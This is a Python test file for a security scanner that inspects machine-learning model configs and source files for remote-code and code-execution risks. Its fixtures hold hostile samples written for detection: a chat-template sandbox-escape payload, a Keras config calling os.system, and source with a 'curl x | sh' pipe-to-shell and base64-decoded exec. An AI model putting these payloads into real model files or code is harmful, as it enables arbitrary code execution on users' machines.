"""JSON configs (Hugging Face, diffusers, Keras) and Python source beside a model."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

from mlwarden.core.types import Severity
from mlwarden.scanning.engine import scan_bytes, scan_path


def _json(doc: Any, name: str = "config.json") -> Any:
    return scan_bytes(json.dumps(doc).encode(), name)


def test_hf_config_without_remote_code_records_facts() -> None:
    report = _json(
        {
            "architectures": ["LlamaForCausalLM"],
            "model_type": "llama",
            "torch_dtype": "bfloat16",
            "hidden_size": 4096,
        }
    )
    assert report.format == "json"
    assert report.findings == []
    facts = report.facts[""]["config"]
    assert facts["document"]["hidden_size"] == 4096
    assert {k: v for k, v in facts.items() if k != "document"} == {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "torch_dtype": "bfloat16",
    }


def test_auto_map_is_medium_remote_code_naming_classes() -> None:
    report = _json(
        {
            "model_type": "custom",
            "auto_map": {
                "AutoConfig": "configuration_x.XConfig",
                "AutoModel": "modeling_x.XModel",
                "AutoTokenizer": ["tokenization_x.XTokenizer", None],
            },
        }
    )
    [finding] = report.findings
    assert (finding.rule_id, finding.severity) == ("hf/remote-code", Severity.MEDIUM)
    assert "modeling_x.XModel" in finding.message
    assert finding.details["classes"] == [
        "configuration_x.XConfig",
        "modeling_x.XModel",
        "tokenization_x.XTokenizer",
    ]


def test_auto_map_pointing_at_another_repository_is_high() -> None:
    report = _json({"auto_map": {"AutoModel": "someone/other-repo--modeling.Evil"}})
    assert [(f.rule_id, f.severity) for f in report.findings] == [("hf/remote-code", Severity.HIGH)]


def test_diffusers_custom_component_is_medium() -> None:
    report = _json(
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
            "safety_checker": [None, None],
            "scheduler": ["my_scheduler", "Sched"],
        },
        "model_index.json",
    )
    assert [(f.rule_id, f.construct) for f in report.findings] == [("hf/remote-code", "my_scheduler.Sched")]
    assert report.facts[""]["config"]["_class_name"] == "StableDiffusionPipeline"


def test_tokenizer_config_chat_templates() -> None:
    benign = _json(
        {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}, "tokenizer_config.json"
    )
    assert benign.findings == []
    evil = _json(
        {
            "chat_template": [
                {"name": "default", "template": "{{ m }}"},
                {"name": "rag", "template": "{{ cycler.__init__.__globals__.os }}"},
            ]
        },
        "tokenizer_config.json",
    )
    assert {(f.rule_id, f.severity) for f in evil.findings} == {("hf/template-injection", Severity.CRITICAL)}
    assert all(f.message.startswith("chat_template.rag:") for f in evil.findings)


def test_keras_config_json_is_analysed() -> None:
    config = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "registered_name": None,
                    "config": {
                        "name": "lam",
                        "function": {"class_name": "__lambda__", "config": {"code": "4w=="}},
                    },
                }
            ]
        },
    }
    report = _json(config)
    assert [(f.rule_id, f.severity, f.construct) for f in report.findings] == [
        ("keras/lambda-layer", Severity.CRITICAL, "lam")
    ]


def test_keras_archive_config_is_analysed_through_the_zip_scanner(tmp_path: Path) -> None:
    config = {
        "module": "keras",
        "class_name": "Functional",
        "config": {
            "layers": [
                {"module": "os", "class_name": "function", "config": "system", "registered_name": None}
            ]
        },
    }
    path = tmp_path / "model.keras"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        zf.writestr("config.json", json.dumps(config))
    findings = scan_path(path).files[0].findings
    hits = [(f.rule_id, f.severity, f.member) for f in findings if f.rule_id.startswith("keras/")]
    assert hits == [("keras/dangerous-module", Severity.CRITICAL, "config.json")]


def test_python_source_is_medium_and_dangerous_calls_high() -> None:
    benign = scan_bytes(
        b"import torch\n\nclass M(torch.nn.Module):\n    def forward(self, x):\n"
        b"        self.eval()\n        return x\n",
        "modeling_x.py",
    )
    assert benign.format == "python"
    assert [(f.rule_id, f.severity) for f in benign.findings] == [("code/python-source", Severity.MEDIUM)]
    evil = scan_bytes(
        b"import os, subprocess\n# os.system('commented out')\n"
        b'"""\n>>> requests.get(url)\n"""\n'
        b"def f():\n    os.system('curl x | sh')\n    exec(base64.b64decode(p))\n",
        "m.py",
    )
    high = {f.construct: f.details["line"] for f in evil.findings if f.rule_id == "code/dangerous-call"}
    assert high == {"subprocess": 1, "os.system/popen/exec": 7, "exec": 8, "base64-decoded code": 8}


def test_malformed_and_non_object_json_are_quiet() -> None:
    assert _json([1, 2, 3]).findings == []
    assert _json({"class_name": "x"}).findings == []  # neither config nor module: not a Keras config
